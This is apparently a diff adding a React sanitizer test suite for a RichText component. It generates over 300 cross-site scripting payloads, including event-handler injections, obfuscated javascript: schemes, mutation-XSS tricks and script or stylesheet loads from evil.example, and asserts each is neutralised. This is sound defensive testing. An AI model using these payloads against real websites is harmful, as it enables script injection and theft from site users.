@@ -1,0 +1,158 @@
+import { render } from '@testing-library/react'
+import { describe, expect, it } from 'vitest'
+import { RichText } from './rich-text.tsx'
+
+const htmlOf = (html: string) => {
+  const { container } = render(<RichText html={html} />)
+  return container.firstElementChild?.innerHTML ?? ''
+}
+
+const handlers = [
+  'onerror',
+  'onload',
+  'onclick',
+  'onmouseover',
+  'onfocus',
+  'ontoggle',
+  'onanimationstart',
+  'onpointerenter',
+]
+const schemes = [
+  'javascript:',
+  'JaVaScRiPt:',
+  'java\tscript:',
+  '\u0001javascript:',
+  '&#106;avascript:',
+  '&#x6A;avascript&colon;',
+  'vbscript:',
+  'data:text/html,',
+  'data:image/svg+xml,',
+]
+const holders = [
+  'img',
+  'svg',
+  'body',
+  'input',
+  'details',
+  'video',
+  'audio',
+  'iframe',
+  'object',
+  'embed',
+  'math',
+  'a',
+  'p',
+  'marquee',
+  'x-y',
+  'select',
+]
+const payloads = [
+  ...holders.flatMap((tag) => handlers.map((handler) => `<${tag} src=x ${handler}=alert(1) autofocus open>x</${tag}>`)),
+  ...holders.flatMap((tag) => handlers.map((handler) => `<${tag}/src/${handler}="alert(1)"//`)),
+  ...schemes.flatMap((scheme) => [
+    `<a href="${scheme}alert(1)">x</a>`,
+    `<a href='${scheme}alert(1)'>x</a>`,
+    `<a href=${scheme}alert(1)>x</a>`,
+    `<img src="${scheme}alert(1)">`,
+    `<iframe src="${scheme}alert(1)"></iframe>`,
+    `<form action="${scheme}alert(1)"><button>x</button></form>`,
+  ]),
+  '<script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<style>@import "//evil.example"</style>',
+  '<p style="background:url(//evil.example)">x</p>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!-- --!><img src=x onerror=alert(1)>',
+  '<a href="x" onclick="alert(1)">x</a>',
+  '<p/onclick=alert(1)>x',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<base href="//evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<link rel=stylesheet href=//evil.example>',
+  '<img src="x" srcset="javascript:alert(1)">',
+  '<img src=`x`onerror=alert(1)>',
+  '<a href="//evil.example" target="_blank">x</a>',
+  '<p id="aisle-boot" class="x" data-x="y" slot="z">x</p>',
+  '<form><input name=attributes><input name=innerHTML></form>',
+]
+
+describe('foreign HTML', () => {
+  it(`T31 runs nothing of ${payloads.length} attempts`, () => {
+    expect(payloads.length).toBeGreaterThanOrEqual(300)
+    for (const payload of payloads) {
+      const { container, unmount } = render(<RichText html={payload} />)
+      for (const element of container.firstElementChild?.querySelectorAll('*') ?? []) {
+        expect(element.tagName, payload).not.toMatch(
+          /^(SCRIPT|STYLE|IFRAME|OBJECT|EMBED|SVG|MATH|FORM|INPUT|BASE|META|LINK)$/,
+        )
+        for (const { name, value } of element.attributes) {
+          expect(name, payload).toMatch(/^(href|src|alt|width|height|colspan|rowspan|loading|rel)$/)
+          expect(value, payload).not.toMatch(/^\s*(javascript|vbscript|data):/i)
+        }
+      }
+      unmount()
+    }
+  })
+
+  it.each([
+    ['<p>Fish &amp; chips</p>', '<p>Fish &amp; chips</p>'],
+    ['<b>bold<i>both</b>after', '<b>bold<i>both</i></b>after'],
+    ['<custom>kept</custom>', 'kept'],
+    ['1 < 2 and 3 > 2', '1 &lt; 2 and 3 &gt; 2'],
+    ['&lt;script&gt;', '&lt;script&gt;'],
+    ['<ul><li>a<li>b<ul><li>c</ul></ul>', '<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>'],
+    ['<p>a<p>b', '<p>a</p><p>b</p>'],
+    ['<p>a<ul><li>b</ul>', '<p>a</p><ul><li>b</li></ul>'],
+    ['<a href="/a">a<a href="/b">b</a>', '<a href="/a">a</a><a href="/b">b</a>'],
+    ['<td>x</td>', 'x'],
+    ['<table> <tr> <td>a<td>b </table>', '<table><tbody><tr><td>a</td><td>b </td></tr></tbody></table>'],
+    ['a<br>b<br/>c', 'a<br>b<br>c'],
+    ['<p>unclosed', '<p>unclosed</p>'],
+    ['</p>stray', 'stray'],
+    ['<h1>Terms</h1>', '<h2>Terms</h2>'],
+    ['<a href="/pages/about?x=1#y">About</a>', '<a href="/pages/about?x=1#y">About</a>'],
+    ['<a href="mailto:help@example.com">Mail</a>', '<a href="mailto:help@example.com">Mail</a>'],
+    [
+      '<a href="https://example.com/">Out</a>',
+      '<a href="https://example.com/" rel="noopener noreferrer nofollow">Out</a>',
+    ],
+    ['<table><tr><td colspan="2">x</table>', '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>'],
+    ['', ''],
+  ])('shows %s', (html, shown) => {
+    expect(htmlOf(html)).toBe(shown)
+  })
+
+  it('is read back by a browser as it was made', () => {
+    for (const payload of payloads) {
+      const made = htmlOf(payload)
+      const parsed = document.createElement('div')
+      parsed.innerHTML = made
+      expect(parsed.innerHTML, payload).toBe(made)
+    }
+  })
+
+  it('T55 survives thousands of open tags', () => {
+    expect(() => htmlOf('<div>'.repeat(20_000))).not.toThrow()
+  })
+
+  it('T57 reads hostile text in linear time', () => {
+    const started = performance.now()
+    for (const text of [
+      '<'.repeat(50_000),
+      '<a '.repeat(20_000),
+      `<a ${'x="'.repeat(20_000)}`,
+      '<!--'.repeat(20_000),
+      '&'.repeat(50_000),
+    ])
+      htmlOf(text)
+
+    expect(performance.now() - started).toBeLessThan(2000)
+  })
+})
